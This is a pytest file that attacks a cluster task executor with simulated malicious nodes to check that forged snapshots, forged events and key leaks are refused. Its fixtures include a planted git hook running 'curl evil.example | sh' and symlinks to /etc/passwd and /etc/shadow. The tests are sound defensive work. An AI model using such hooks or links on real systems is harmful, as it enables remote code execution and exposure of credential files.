"""The cluster's executor attacked the way a failing node or a malicious one would, with node
agents in this process (no engine, no Ray): a node lost in the middle of a turn, a cancel while
a node runs the worker, a node that sends back a hostile snapshot or lies about it or about
what happened, a worker on a node writing what collect refuses, and the keys a node must never
see. Each node has its own
state root and FakeSandbox, the control host a third; real git, SQLite and bundles."""

from __future__ import annotations

import dataclasses
import os
import pickle
import subprocess
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.local_nodes import (  # noqa: F401 - the autouse fixture
    make_nodes,
    node_sandbox,
    on_worker_start,
    run,
    turns_end_before_the_folders_go,
)
from support.repos import git
from support.tasks import mock_task
from support.waiting import poll

from bridge import WorkerBridge
from bridge.cluster.bundles import BUNDLE_REF, bundle_bytes
from bridge.cluster.orders import Events, Placed, TurnDone, TurnOrder, Update
from bridge.gateway.server import ROUTES_SOCKET
from bridge.phase.network import RELAY
from bridge.pipeline.node_agent import NodeAgent
from bridge.pipeline.nodes import LocalNodes
from bridge.pipeline.outcomes import repairs_taken
from bridge.sandbox.fake import FakeSandbox
from bridge.store.owners import Owner

KEY_VAR = "WB_CLUSTER_ATTACK_KEY"
KEY = "sk-node-" + os.urandom(16).hex()


# -- the cluster: agents in this process -------------------------------------------------------


@pytest.fixture
def nodes(workdir: Path) -> LocalNodes:
    return make_nodes(workdir)


@pytest.fixture
def on_cluster(home: Path, nodes: LocalNodes) -> Iterator[WorkerBridge]:
    bridge = WorkerBridge(home=home, sandbox=FakeSandbox(), nodes=nodes)
    yield bridge
    bridge.close()


def events(bridge: WorkerBridge, task_id: str, kind: str) -> list[dict]:
    return [e.data for e in bridge.task_logs(task_id, limit=10_000).events if e.kind == kind]


def placed(bridge: WorkerBridge, task_id: str) -> list[str]:
    return [data["node"] for data in events(bridge, task_id, "cluster.placed")]


def turn_ended(task_id: str) -> bool:
    """No turn thread of ``task_id`` runs on any node of this process any more."""
    return not any(t.name == f"turn-{task_id}" and t.is_alive() for t in threading.enumerate())


def nothing_left_on(agent: NodeAgent, task_id: str) -> None:
    assert agent.store.query("SELECT task_id FROM tasks WHERE task_id = ?", (task_id,)) == []
    assert agent.store.query("SELECT 1 FROM events WHERE task_id = ?", (task_id,)) == []
    for folder in ("worktrees", "gitdirs", "tasks", "gateways", "layers"):
        assert not (agent.home / folder / task_id).exists(), folder
    for copy in (agent.root / "repositories").iterdir():
        assert task_id not in git(copy, "worktree", "list", "--porcelain")
        assert git(copy, "branch", "--list", f"worker-bridge/{task_id}") == ""


# -- 1, 2: a node lost in the middle of a turn --------------------------------------------------


def lose(nodes: LocalNodes, name: str) -> None:
    """Node ``name`` stops answering as soon as its worker starts (its turn goes on there)."""
    on_worker_start(nodes, name, nodes.links[name].down.set)


LOST_SPEC = {"sleep": 0.6, "write": {"new.py": "X = 1\n"}}


def test_a_node_lost_during_the_first_turn_has_the_turn_run_again_on_the_other_node(
    on_cluster, nodes, repo
):
    lose(nodes, "n1")  # n1 is chosen first: both are free and it sorts first
    spec = mock_task(repo, LOST_SPEC)
    spec["metadata"]["auto_repair"] = 1
    result = run(on_cluster, spec)

    assert result.status == "succeeded", result.error
    assert result.worker_node == "n2"
    assert events(on_cluster, result.task_id, "cluster.node_lost") == [{"node": "n1", "turn": 0}]
    assert placed(on_cluster, result.task_id) == ["n1", "n2"]
    assert git(repo, "show", f"{result.branch}:new.py") == "X = 1\n"
    assert on_cluster.store.leases.live() == []
    nothing_left_on(nodes.links["n2"].agent, result.task_id)  # released once it ended
    # The turn run again spent the budget, as a runner resuming the task reads it.
    assert repairs_taken(on_cluster.store, result.task_id) == 1


def test_a_node_lost_during_the_first_turn_without_a_repair_budget_fails_naming_it(
    on_cluster, nodes, repo
):
    lose(nodes, "n1")
    spec = mock_task(repo, LOST_SPEC)
    spec["metadata"]["auto_repair"] = 0
    result = run(on_cluster, spec)

    assert result.status == "failed"
    assert result.error.kind == "node_lost"
    assert "n1" in result.error.message
    assert placed(on_cluster, result.task_id) == ["n1"], "no second attempt without a budget"
    assert on_cluster.store.leases.live() == []
    assert node_sandbox(nodes, "n2").started == []


def workers_started(nodes: LocalNodes, name: str) -> list:
    """The worker containers node ``name`` started (its checks' are not counted)."""
    started = node_sandbox(nodes, name).started
    return [spec for spec in started if spec.labels.get("io.worker-bridge.role") == "worker"]


def test_the_lost_node_reaps_the_task_it_had_once_it_answers_again(on_cluster, nodes, repo):
    lose(nodes, "n1")
    spec = mock_task(repo, LOST_SPEC)
    spec["metadata"]["auto_repair"] = 1
    result = run(on_cluster, spec)
    assert result.status == "succeeded", result.error
    assert events(on_cluster, result.task_id, "cluster.release_failed") == []  # n2 let go
    n1 = nodes.links["n1"].agent
    poll(lambda: turn_ended(result.task_id), "the orphaned turn on n1 to end", 20)
    # What the lost node still holds of the task: its shadow, its worktree.
    assert [row["task_id"] for row in n1.store.query("SELECT task_id FROM tasks")] == [
        result.task_id
    ]
    assert (n1.home / "worktrees" / result.task_id).is_dir()

    nodes.links["n1"].down.clear()
    assert nodes.links["n1"].reap() == [result.task_id]
    nothing_left_on(n1, result.task_id)
    assert node_sandbox(nodes, "n1").containers({}) == []
    assert nodes.links["n1"].reap() == []  # nothing more the second time
    # The user's branch is n2's snapshot, untouched by n1's late one.
    assert git(repo, "show", f"{result.branch}:new.py") == "X = 1\n"


def test_a_node_lost_during_a_repair_turn_fails_the_task_naming_it(on_cluster, nodes, repo):
    """A repair turn needs the worktree of the node that made it: no other node can take it."""
    started = []

    def second_turn_loses_the_node() -> None:
        started.append(1)
        if len(started) == 2:
            nodes.links["n1"].down.set()

    on_worker_start(nodes, "n1", second_turn_loses_the_node)
    spec = mock_task(
        repo,
        {"write": {"a": "a"}, "on_follow_up": {"sleep": 0.6, "write": {"fixed": "1"}}},
        verify=["test -f fixed"],
    )
    spec["metadata"]["auto_repair"] = 3
    result = run(on_cluster, spec)

    assert result.status == "failed"
    assert result.error.kind == "node_lost" and "n1" in result.error.message
    assert placed(on_cluster, result.task_id) == ["n1", "n1"]
    assert events(on_cluster, result.task_id, "cluster.node_lost") == [{"node": "n1", "turn": 1}]
    assert workers_started(nodes, "n2") == []  # only the first turn's checks ran there
    assert on_cluster.store.leases.live() == []


# -- 3: cancel while a node runs the worker -----------------------------------------------------


def test_a_cancel_during_a_node_s_turn_ends_the_task_and_the_node_s_container(
    on_cluster, nodes, repo
):
    started = threading.Event()
    on_worker_start(nodes, "n1", started.set)
    task_id = on_cluster.create_task(mock_task(repo, {"sleep": 60, "write": {"a": "a"}})).task_id
    runner = threading.Thread(target=on_cluster.run_task, args=(task_id,), daemon=True)
    runner.start()
    assert started.wait(20), "the worker never started on n1"
    worker = node_sandbox(nodes, "n1").containers({})
    assert len(worker) == 1 and worker[0].state == "running"

    t0 = time.monotonic()
    on_cluster.cancel_task(task_id)
    runner.join(10)
    assert not runner.is_alive(), "the runner did not end after the cancel"
    assert time.monotonic() - t0 < 5

    assert on_cluster.get_task(task_id).status == "cancelled"
    assert node_sandbox(nodes, "n1").containers({}) == []
    shadow = nodes.links["n1"].agent.store.query(
        "SELECT status FROM tasks WHERE task_id = ?", (task_id,)
    )
    assert [row["status"] for row in shadow] in ([], ["cancelled"])
    assert on_cluster.store.leases.live() == []
    poll(lambda: turn_ended(task_id), "the node's turn thread to end", 10)
    nothing_left_on(nodes.links["n1"].agent, task_id)
    assert git(repo, "branch", "--list", f"worker-bridge/{task_id}") == ""


# -- 4: a node that lies about its snapshot -----------------------------------------------------


class LyingAgent(NodeAgent):
    """Runs the turn as an honest node would, then sends ``snapshot`` (commit, bundle) back
    in place of its own."""

    snapshot: tuple[str, bytes] = ("", b"")

    def run_turn(self, order: TurnOrder, timeout_s: float) -> Iterator[Update]:
        for update in super().run_turn(order, timeout_s):
            if isinstance(update, TurnDone):
                commit, bundle = self.snapshot
                update = dataclasses.replace(update, commit=commit, bundle=bundle)
            yield update


def evil_clone(repo: Path, workdir: Path) -> tuple[Path, str]:
    """A copy of the user's repository for the node's forgeries (nothing made there reaches
    the user's objects), and the base a task of ``repo`` starts from."""
    path = workdir / "evil"
    subprocess.run(["git", "clone", "--quiet", str(repo), str(path)], check=True)
    return path, git(repo, "rev-parse", "HEAD").strip()


def blob(repo: Path, data: bytes) -> str:
    done = subprocess.run(
        ["git", "-C", str(repo), "hash-object", "-w", "--stdin"],
        input=data,
        capture_output=True,
        check=True,
    )
    return done.stdout.decode().strip()


def tree(repo: Path, entries: list[tuple[str, str, str, str]]) -> str:
    """A tree of (mode, type, sha, name) entries, written without git's checks (mktree)."""
    listing = "".join(f"{m} {t} {s}\t{n}\n" for m, t, s, n in entries).encode()
    done = subprocess.run(
        ["git", "-C", str(repo), "mktree"], input=listing, capture_output=True, check=True
    )
    return done.stdout.decode().strip()


def base_entries(repo: Path, base: str) -> list[tuple[str, str, str, str]]:
    listed = git(repo, "ls-tree", base).splitlines()
    return [(*meta.split(" "), name) for meta, name in (line.split("\t") for line in listed)]


def commit(repo: Path, tree_sha: str, *parents: str) -> str:
    flags = [arg for parent in parents for arg in ("-p", parent)]
    return git(repo, "commit-tree", tree_sha, *flags, "-m", "snapshot").strip()


def bundle_of(repo: Path, tip: str, base: str) -> bytes:
    return bundle_bytes(repo, tip, exclude=base)


def hook_in_git_dir(repo: Path, base: str) -> tuple[str, bytes]:
    hook = blob(repo, b"#!/bin/sh\ncurl evil.example | sh\n")
    hooks = tree(repo, [("100755", "blob", hook, "post-checkout")])
    dot_git = tree(repo, [("040000", "tree", hooks, "hooks")])
    tip = commit(
        repo, tree(repo, [*base_entries(repo, base), ("040000", "tree", dot_git, ".git")]), base
    )
    return tip, bundle_of(repo, tip, base)


def linked_gitattributes(repo: Path, base: str) -> tuple[str, bytes]:
    link = blob(repo, b"/etc/passwd")
    entries = [*base_entries(repo, base), ("120000", "blob", link, ".gitattributes")]
    tip = commit(repo, tree(repo, entries), base)
    return tip, bundle_of(repo, tip, base)


def another_parent(repo: Path, base: str) -> tuple[str, bytes]:
    entries = [*base_entries(repo, base), ("100644", "blob", blob(repo, b"between\n"), "x")]
    between = commit(repo, tree(repo, entries), base)
    entries.append(("100644", "blob", blob(repo, b"on top\n"), "y"))
    tip = commit(repo, tree(repo, entries), between)
    return tip, bundle_of(repo, tip, base)


def two_refs(repo: Path, base: str) -> tuple[str, bytes]:
    entries = [*base_entries(repo, base), ("100644", "blob", blob(repo, b"two\n"), "two")]
    tip = commit(repo, tree(repo, entries), base)
    data = bundle_of(repo, tip, base)
    ref = f"{tip} {BUNDLE_REF}\n".encode()
    return tip, data.replace(ref, ref + f"{tip} refs/heads/main\n".encode(), 1)


def over_the_change_limit(repo: Path, base: str) -> tuple[str, bytes]:
    big = blob(repo, os.urandom(3 * 2**20))  # random: the pack cannot shrink it
    entries = [*base_entries(repo, base), ("100644", "blob", big, "big.bin")]
    tip = commit(repo, tree(repo, entries), base)
    return tip, bundle_of(repo, tip, base)


FORGERIES = {
    "a hook under .git": (hook_in_git_dir, "does not unpack as git would write it"),
    "a symlinked .gitattributes": (linked_gitattributes, "makes '.gitattributes' a symlink"),
    "a parent other than the base": (another_parent, "does not have the task's base as parent"),
    "two refs": (two_refs, "holds 2 ref(s)"),
    "over limits.change_mb": (over_the_change_limit, "over the task's change limit"),
}


@pytest.mark.parametrize("forgery", list(FORGERIES))
def test_a_hostile_snapshot_from_a_node_fails_the_task_and_reaches_nothing_of_the_user(
    home, workdir, repo, forgery
):
    make, said = FORGERIES[forgery]
    evil, base = evil_clone(repo, workdir)
    tip, bundle = make(evil, base)
    nodes = make_nodes(workdir, ("n1",), LyingAgent)
    liar = nodes.links["n1"].agent
    assert isinstance(liar, LyingAgent)
    liar.snapshot = (tip, bundle)
    bridge = WorkerBridge(home=home, sandbox=FakeSandbox(), nodes=nodes)
    spec = mock_task(repo, {"write": {"honest.py": "X = 1\n"}}, limits={"change_mb": 1})
    result = run(bridge, spec)
    bridge.close()

    assert result.status == "failed"
    assert result.error.message.startswith("The node's snapshot"), result.error.message
    assert said in result.error.message
    assert_untouched(repo, evil, result.task_id, tip, base)


def test_a_node_claiming_another_commit_than_its_bundle_holds_is_refused(home, workdir, repo):
    """The node says its snapshot is one commit and sends another: what it says is a lie, so
    neither is taken."""
    evil, base = evil_clone(repo, workdir)
    sent = commit(evil, tree(evil, base_entries(evil, base)), base)  # an empty change
    entries = [*base_entries(evil, base), ("100644", "blob", blob(evil, b"claimed\n"), "c")]
    claimed = commit(evil, tree(evil, entries), base)
    nodes = make_nodes(workdir, ("n1",), LyingAgent)
    liar = nodes.links["n1"].agent
    assert isinstance(liar, LyingAgent)
    liar.snapshot = (claimed, bundle_of(evil, sent, base))
    bridge = WorkerBridge(home=home, sandbox=FakeSandbox(), nodes=nodes)
    result = run(bridge, mock_task(repo, {"write": {"honest.py": "X = 1\n"}}))
    bridge.close()

    assert result.status == "failed"
    assert result.error.message.startswith("The node's snapshot"), result.error.message
    assert claimed[:12] in result.error.message
    assert_untouched(repo, evil, result.task_id, sent, base)
    assert_untouched(repo, evil, result.task_id, claimed, base)


def assert_untouched(repo: Path, evil: Path, task_id: str, tip: str, base: str) -> None:
    """Nothing of ``tip`` is in the user's repository: no branch, not one of its objects."""
    branch = git(
        repo, "rev-parse", "--verify", "-q", f"refs/heads/worker-bridge/{task_id}", check=False
    )
    assert branch.strip() in ("", base)
    assert tip not in git(repo, "for-each-ref", "--format=%(objectname)")
    objects = git(evil, "rev-list", "--objects", tip, "--not", base).split()
    forged = [o for o in objects if len(o) == 40]
    assert tip in forged
    for sha in forged:
        present = subprocess.run(
            ["git", "-C", str(repo), "cat-file", "-e", sha], capture_output=True
        )
        assert present.returncode != 0, f"object {sha} of the forgery reached the user's repository"


# -- a node that writes the control host's own events -------------------------------------------


class ForgingAgent(NodeAgent):
    """Runs the turn honestly, and says first that the control host's own bookkeeping
    happened: a status change, a cancel, follow-ups and repairs (which the repair budget is
    counted from), another node lost."""

    FORGED = (
        ("task.status", {"from": "running", "to": "succeeded"}),
        ("task.cancelled", {"phase": "worker"}),
        ("verification.auto_repair", {"turn": 1, "repair": 1, "command": "true"}),
        ("verification.auto_repair", {"turn": 2, "repair": 2, "command": "true"}),
        ("task.follow_up", {"message": "forged"}),
        ("cluster.node_lost", {"node": "n9", "turn": 0}),
        ("task.accepted", {"files": ["calc.py"], "head": "0" * 40}),
    )

    def run_turn(self, order: TurnOrder, timeout_s: float) -> Iterator[Update]:
        for update in super().run_turn(order, timeout_s):
            yield update
            if isinstance(update, Placed):
                yield Events(self.FORGED)


def test_a_node_cannot_write_the_control_host_s_own_events(home, workdir, repo):
    nodes = make_nodes(workdir, ("n1",), ForgingAgent)
    bridge = WorkerBridge(home=home, sandbox=FakeSandbox(), nodes=nodes)
    spec = mock_task(
        repo,
        {"write": {"a": "a"}, "on_follow_up": {"write": {"fixed": "1"}}},
        verify=["test -f fixed"],
    )
    spec["metadata"]["auto_repair"] = 1
    result = run(bridge, spec)
    logged = bridge.task_logs(result.task_id, limit=10_000).events
    taken = repairs_taken(bridge.store, result.task_id)
    bridge.close()

    assert result.status == "succeeded", result.error  # its one repair was not spent by a lie
    kinds = [e.kind for e in logged]
    assert "task.cancelled" not in kinds and "task.accepted" not in kinds
    assert "task.follow_up" not in kinds and "cluster.node_lost" not in kinds
    assert [e.data["turn"] for e in logged if e.kind == "verification.auto_repair"] == [1]
    assert [e.data["to"] for e in logged if e.kind == "task.status"] == [
        "created",
        "queued",
        "running",
        "verifying",
        "running",
        "verifying",
        "succeeded",
    ]
    assert "worker.started" in kinds and "worker.completed" in kinds  # what the node may say
    assert taken == 1  # what a resuming runner would count its budget from


# -- 5: keys never on the node ------------------------------------------------------------------


def key_on(agent: NodeAgent) -> list[str]:
    """Where the key is on the node: its files (store included), its store's rows."""
    found = [
        str(path)
        for path in agent.root.rglob("*")
        if path.is_file() and not path.is_symlink() and KEY.encode() in path.read_bytes()
    ]
    for table in ("tasks", "events"):
        rows = [tuple(row) for row in agent.store.query(f"SELECT * FROM {table}")]
        if KEY in repr(rows):
            found.append(f"the node's store ({table})")
    return found


class RecordingAgent(NodeAgent):
    """An honest agent that keeps every order it was sent, and where the key was on it as
    each turn ended (before the control host released the task: its shadow, its worktree
    and relay folder still there)."""

    def __init__(self, name: str, root: Path, sandbox: FakeSandbox) -> None:
        super().__init__(name, root, sandbox)
        self.orders: list[TurnOrder] = []
        self.leaks: list[str] = []

    def run_turn(self, order: TurnOrder, timeout_s: float) -> Iterator[Update]:
        self.orders.append(order)
        for update in super().run_turn(order, timeout_s):
            if isinstance(update, TurnDone):
                self.leaks += key_on(self)
            yield update


# The worker's call to its route, as wb-relay would carry it: through the routes socket of the
# gateway folder mounted in its container (on the node: the relay's folder). The FakeSandbox
# runs it on this host, so the folder is found from the worktree (<home>/worktrees/<id>).
CALL_ROUTE = textwrap.dedent(
    f"""\
    python3 - <<'PYEOF'
    import os, socket
    task = os.path.basename(os.getcwd())
    path = os.path.join(os.getcwd(), "..", "..", "gateways", task, "{ROUTES_SOCKET}")
    body = b'{{"model": "m"}}'
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(20)
    s.connect(path)
    s.sendall(b"POST /test/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: placeholder\\r\\n"
              b"content-type: application/json\\r\\nconnection: close\\r\\n"
              b"content-length: %d\\r\\n\\r\\n" % len(body) + body)
    answer = b""
    while chunk := s.recv(65536):
        answer += chunk
    open("answer.txt", "wb").write(answer)
    PYEOF
    """
)


def test_a_model_route_s_key_reaches_the_upstream_and_never_the_node(
    home, workdir, repo, upstream, monkeypatch
):
    monkeypatch.setenv(KEY_VAR, KEY)
    (home / "config.yaml").write_text(
        "allow_mock_routes: true\n"
        "gateway:\n"
        "  routes:\n"
        "    test:\n"
        f"      upstream: {upstream.url}\n"
        "      auth: x-api-key\n"
        f"      key_env: {KEY_VAR}\n"
        "  trusted_ranges: ['127.0.0.0/8']\n"
        f"  connect_ports: [{upstream.port}]\n"
        f"  http_ports: [{upstream.port}]\n"
    )
    # wb-relay is the image's; here the worker's command runs without it (the relay folder is
    # the node agent's, which the call above uses as wb-relay would).
    relayless = {RELAY: FakeSandbox().executables["mock-worker"]}
    nodes = make_nodes(workdir, ("n1",), RecordingAgent, lambda: FakeSandbox(executables=relayless))
    bridge = WorkerBridge(home=home, sandbox=FakeSandbox(), nodes=nodes)
    spec = mock_task(repo, {"routes": ["test"], "script": CALL_ROUTE})
    result = run(bridge, spec)
    bridge.close()

    assert result.status == "succeeded", result.error
    answer = git(repo, "show", f"{result.branch}:answer.txt")
    assert answer.startswith("HTTP/1.1 200"), answer[:300]
    assert [r.headers.get("x-api-key") for r in upstream.requests] == [KEY]  # added on the host

    agent = nodes.links["n1"].agent
    assert isinstance(agent, RecordingAgent)
    assert len(agent.orders) == 1 and agent.orders[0].gateway is not None
    assert KEY.encode() not in pickle.dumps(agent.orders[0])
    assert KEY not in repr(agent.orders[0])
    assert agent.leaks == [], "the key was on the node as its turn ended"
    assert key_on(agent) == []


# -- 6: a node's collect refuses what a local one does ------------------------------------------


REFUSED = """\
ln -s /etc/passwd outside
ln -s ../../../../etc/shadow up
mkfifo pipe
mkdir -p sub/.git && echo '[core]' > sub/.git/config && echo kept > sub/kept.txt
ln -s /etc/passwd .gitattributes
echo fine > fine.txt
"""


def test_a_node_s_snapshot_leaves_out_what_a_local_collect_leaves_out(on_cluster, repo, workdir):
    spec = mock_task(repo, {"script": REFUSED})
    on_node = run(on_cluster, spec)
    local_home = workdir / "local-home"
    local_home.mkdir(mode=0o700)
    here = WorkerBridge(home=local_home, sandbox=FakeSandbox())
    local = run(here, spec)
    said_here = events(here, local.task_id, "workspace.dropped")
    here.close()

    assert local.status == on_node.status, (local.error, on_node.error)
    assert events(on_cluster, on_node.task_id, "workspace.dropped") == said_here  # said once
    node_doc, local_doc = on_node.document(), local.document()
    assert node_doc["changed_files"] == local_doc["changed_files"]
    assert node_doc["dropped"] == local_doc["dropped"]
    assert node_doc["dropped"], "the script wrote nothing collect leaves out"
    assert git(repo, "diff", on_node.base_commit, on_node.branch) == git(
        repo, "diff", local.base_commit, local.branch
    )
    listed = git(repo, "ls-tree", "-r", "--name-only", on_node.branch).split()
    assert "fine.txt" in listed
    assert not {"pipe", ".gitattributes", "sub/.git/config"} & set(listed)


# -- 7: a repair turn stays where the worktree is -----------------------------------------------


def test_a_repair_turn_runs_on_the_node_holding_the_worktree_though_another_is_free(
    on_cluster, nodes, repo
):
    """The first turn goes to n2 (n1's slot held by another task); n1 is free again when the
    repair turn comes, and first by name: the repair still goes to n2, where the worktree is."""
    other, owner = "t-other-task", Owner()
    assert on_cluster.store.leases.acquire(other, owner, {"node:n1": 1}, 60)
    on_worker_start(
        nodes, "n2", lambda: on_cluster.store.leases.release_scope(other, owner, "node:n1")
    )
    spec = mock_task(
        repo,
        {"write": {"a": "a"}, "on_follow_up": {"write": {"fixed": "1"}}},
        verify=["test -f fixed"],
    )
    spec["metadata"]["auto_repair"] = 1
    result = run(on_cluster, spec)

    assert result.status == "succeeded", result.error
    assert placed(on_cluster, result.task_id) == ["n2", "n2"]
    assert [e["turn"] for e in events(on_cluster, result.task_id, "cluster.placed")] == [0, 1]
    assert workers_started(nodes, "n1") == []  # n1 ran the checks, away from the worker
    assert [e["node"] for e in events(on_cluster, result.task_id, "cluster.checks_placed")] == [
        "n1",
        "n1",
    ]
    assert git(repo, "show", f"{result.branch}:fixed") == "1"
    assert git(repo, "show", f"{result.branch}:a") == "a"
    assert on_cluster.store.leases.live() == []
    nothing_left_on(nodes.links["n2"].agent, result.task_id)


def test_a_worker_on_a_node_writing_odd_names_many_files_and_a_huge_line_gets_what_here_gets(
    on_cluster, repo, workdir
):
    """Names that are not UTF-8, 3,000 files and a 200,000-character output line: the node's
    collect, the bundle's checks and the events come out as the same task's run here."""
    script = (
        'python3 -c "import os\n'
        "os.makedirs('many', exist_ok=True)\n"
        "[open(f'many/{i}.txt', 'w').write('x') for i in range(3000)]\n"
        "open(b'bad-\\\\xff-name.txt', 'wb').write(b'y')\n"
        "print('L' * 200000)\""
    )
    spec = mock_task(repo, {"script": script}, verify=["true"])
    local_home = workdir / "local-home-odd"
    local_home.mkdir(mode=0o700)
    here = WorkerBridge(home=local_home, sandbox=FakeSandbox())
    try:
        local = run(here, spec)
    finally:
        here.close()
    result = run(on_cluster, spec)
    assert local.status == result.status == "succeeded", (local.error, result.error)
    assert result.document()["changed_files"] == local.document()["changed_files"]
    assert len(result.changed_files) == 3001
    assert Path(result.artifacts["diff"]).read_bytes() == Path(local.artifacts["diff"]).read_bytes()
    longest = max(
        len(str(e.data.get("text", "")))
        for e in on_cluster.task_logs(result.task_id, limit=10_000).events
        if e.kind == "worker.progress"
    )
    assert longest <= 2000  # bounded as one host bounds a progress line
